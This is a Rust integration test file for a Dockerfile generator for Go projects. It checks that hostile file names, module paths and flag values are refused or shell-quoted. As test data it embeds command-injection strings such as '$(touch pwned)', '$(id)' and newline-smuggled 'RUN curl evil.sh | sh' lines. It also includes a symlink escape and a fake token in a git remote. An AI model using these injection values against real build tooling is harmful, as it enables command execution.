@@ -1,0 +1,298 @@
+//! Hostile and broken inputs: never a panic, never an extra Dockerfile instruction;
+//! either safely quoted output or an error that names the file.
+
+use predicates::prelude::*;
+
+use docksmith::render::verify;
+
+use crate::support::{docksmith, project};
+
+const MAIN: &str = "package main\n\nfunc main() {}\n";
+
+fn generate(dir: &std::path::Path) -> assert_cmd::assert::Assert {
+    docksmith().arg("generate").arg(dir).assert()
+}
+
+fn instruction_count(dockerfile: &str) -> usize {
+    verify::verify(dockerfile)
+        .expect("valid Dockerfile")
+        .instructions
+        .len()
+}
+
+#[test]
+fn a_binary_named_like_a_command_substitution_is_refused_by_file() {
+    let dir = project(&[
+        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
+        ("cmd/$(touch pwned)/main.go", MAIN),
+    ]);
+    generate(dir.path())
+        .code(1)
+        .stderr(predicate::str::contains(
+            "cmd/$(touch pwned)/main.go: binary name `$(touch pwned)`",
+        ))
+        .stderr(predicate::str::contains("hint: rename it"));
+}
+
+#[test]
+fn quotes_and_newlines_in_names_are_refused_by_file() {
+    for name in [
+        "it's",
+        "a\"b",
+        "a\nRUN curl evil.sh | sh",
+        "tab\there",
+        "esc\u{1b}",
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("go.mod"), "module m\n").unwrap();
+        let pkg = dir.path().join("cmd").join(name);
+        std::fs::create_dir_all(&pkg).unwrap();
+        std::fs::write(pkg.join("main.go"), MAIN).unwrap();
+        let out = docksmith()
+            .arg("generate")
+            .arg(dir.path())
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(1), "{name:?}");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(
+            stderr.contains("main.go: binary name"),
+            "{name:?}: {stderr}"
+        );
+        assert!(out.stdout.is_empty());
+    }
+}
+
+#[test]
+fn a_hostile_module_path_never_reaches_the_dockerfile_unquoted() {
+    // The root package's binary is named after the module's last element.
+    let dir = project(&[
+        ("go.mod", "module \"example.com/a\\\"b\"\n"),
+        ("main.go", MAIN),
+    ]);
+    generate(dir.path())
+        .code(1)
+        .stderr(predicate::str::contains("go.mod"));
+    let dir = project(&[
+        ("go.mod", "module \"example.com/$(id)\\nRUN x/app\"\n"),
+        ("main.go", MAIN),
+    ]);
+    let out = docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    if out.status.success() {
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(!text.contains("$(id)"), "{text}");
+        assert!(!text.lines().any(|l| l.starts_with("RUN x")), "{text}");
+    } else {
+        assert!(String::from_utf8_lossy(&out.stderr).contains("go.mod"));
+    }
+}
+
+#[test]
+fn a_quote_in_a_package_path_is_shell_quoted_not_an_extra_instruction() {
+    let benign = project(&[
+        ("go.mod", "module m\n"),
+        ("tools/plain/cmd/z/main.go", MAIN),
+    ]);
+    let hostile = project(&[
+        ("go.mod", "module m\n"),
+        ("tools/it's $(id)/cmd/z/main.go", MAIN),
+    ]);
+    let render = |dir: &std::path::Path| {
+        let out = docksmith().arg("generate").arg(dir).output().unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let (benign, hostile) = (render(benign.path()), render(hostile.path()));
+    assert_eq!(instruction_count(&benign), instruction_count(&hostile));
+    assert!(
+        hostile.contains(r"-o /out/z './tools/it'\''s $(id)/cmd/z'"),
+        "{hostile}"
+    );
+}
+
+#[test]
+fn hostile_flag_values_are_refused() {
+    let dir = project(&[("go.mod", "module m\n"), ("main.go", MAIN)]);
+    for (flag, value) in [
+        ("--image-runtime", "debian:12\nRUN curl evil.sh | sh"),
+        ("--image-builder", "golang:1.22 AS x"),
+        ("--image-builder", "golang:$(id)"),
+    ] {
+        docksmith()
+            .args(["generate", flag, value])
+            .arg(dir.path())
+            .assert()
+            .code(1)
+            .stderr(predicate::str::contains(format!("flag {flag}")));
+    }
+    docksmith()
+        .args(["generate", "--bin", "$(id)\nRUN x"])
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("no binary `$(id)\\nRUN x`"));
+}
+
+#[test]
+fn broken_go_mod_names_file_and_line() {
+    for (text, expect) in [
+        (
+            "module m\ngo banana\n",
+            "go.mod:2: invalid go version `banana`",
+        ),
+        (
+            "module m\nrequire (\n  a v1\n",
+            "go.mod:3: a `(` block is never closed",
+        ),
+        ("go 1.22\n", "go.mod: no `module` directive"),
+        ("module \"unterminated\n", "go.mod:1: unterminated string"),
+    ] {
+        let dir = project(&[("go.mod", text), ("main.go", MAIN)]);
+        generate(dir.path())
+            .code(1)
+            .stderr(predicate::str::contains(expect))
+            .stderr(predicate::str::contains("hint:"));
+    }
+}
+
+#[test]
+fn huge_and_binary_files_are_handled() {
+    let huge = "// padding\n".repeat(120_000);
+    let dir = project(&[("go.mod", &format!("module m\n{huge}")), ("main.go", MAIN)]);
+    generate(dir.path())
+        .code(1)
+        .stderr(predicate::str::contains("go.mod: "))
+        .stderr(predicate::str::contains("limit for a manifest"));
+    // A Go file that is not text, and a huge generated one, are skipped, not fatal.
+    let dir = project(&[
+        ("go.mod", "module m\n"),
+        ("main.go", MAIN),
+        ("gen.go", &"var x = 1\n".repeat(300_000)),
+    ]);
+    std::fs::write(dir.path().join("blob.go"), [0u8, 159, 146, 150, 0xff]).unwrap();
+    generate(dir.path()).success();
+}
+
+#[test]
+fn a_go_mod_symlinked_out_of_the_project_is_refused() {
+    let outside = project(&[("secret", "module stolen\n")]);
+    let dir = project(&[("main.go", MAIN)]);
+    std::os::unix::fs::symlink(outside.path().join("secret"), dir.path().join("go.mod")).unwrap();
+    generate(dir.path())
+        .code(1)
+        .stderr(predicate::str::contains(
+            "go.mod: points outside the project",
+        ));
+}
+
+#[test]
+fn credentials_in_the_git_remote_never_reach_the_label() {
+    let dir = project(&[
+        ("go.mod", "module m\n"),
+        ("main.go", MAIN),
+        (
+            ".git/config",
+            "[remote \"origin\"]\n\turl = https://ci-bot:ghp_s3cret@github.com/acme/m.git\n",
+        ),
+    ]);
+    generate(dir.path())
+        .success()
+        .stdout(predicate::str::contains(
+            "org.opencontainers.image.source=\"https://github.com/acme/m\"",
+        ))
+        .stdout(predicate::str::contains("s3cret").not());
+}
+
+#[test]
+fn a_loopback_listener_is_warned_about_in_plan_and_dockerfile() {
+    let dir = project(&[
+        ("go.mod", "module example.com/local\n"),
+        (
+            "main.go",
+            "package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.ListenAndServe(\"127.0.0.1:7000\", nil)\n}\n",
+        ),
+    ]);
+    docksmith()
+        .arg("plan")
+        .arg(dir.path())
+        .assert()
+        .success()
+        .stderr(predicate::str::contains(
+            "warning: local listens on the loopback address only",
+        ))
+        .stderr(predicate::str::contains("(main.go:6)"));
+    generate(dir.path())
+        .success()
+        .stdout(predicate::str::contains(
+            "# WARNING: local listens on the loopback address only (main.go:6)",
+        ));
+}
+
+#[test]
+fn an_out_of_date_vendor_folder_is_left_out_and_modules_downloaded() {
+    let dir = project(&[
+        (
+            "go.mod",
+            "module m\n\ngo 1.22\n\nrequire github.com/google/uuid v1.6.0\n",
+        ),
+        ("go.sum", ""),
+        ("main.go", MAIN),
+        (
+            "vendor/modules.txt",
+            "# github.com/google/uuid v1.3.0\n## explicit\n",
+        ),
+    ]);
+    let out = docksmith()
+        .args(["generate", "--out"])
+        .arg(dir.path().join("out"))
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("vendor/modules.txt does not list github.com/google/uuid v1.6.0"),
+        "{stderr}"
+    );
+    let dockerfile = std::fs::read_to_string(dir.path().join("out/Dockerfile")).unwrap();
+    assert!(dockerfile.contains("go mod download"));
+    assert!(!dockerfile.contains("-mod=vendor"));
+    let ignore = std::fs::read_to_string(dir.path().join("out/.dockerignore")).unwrap();
+    assert!(ignore.lines().any(|l| l == "vendor"), "{ignore}");
+}
+
+#[test]
+fn a_missing_go_sum_is_warned_about() {
+    let dir = project(&[
+        (
+            "go.mod",
+            "module m\n\nrequire github.com/google/uuid v1.6.0\n",
+        ),
+        ("main.go", MAIN),
+    ]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .success()
+        .stderr(predicate::str::contains("go.sum is missing"));
+}
+
+#[test]
+fn a_project_without_main_package_says_so() {
+    let dir = project(&[
+        ("go.mod", "module example.com/lib\n"),
+        ("lib.go", "package lib\n"),
+    ]);
+    generate(dir.path())
+        .code(1)
+        .stderr(predicate::str::contains("go.mod: no `package main`"));
+}
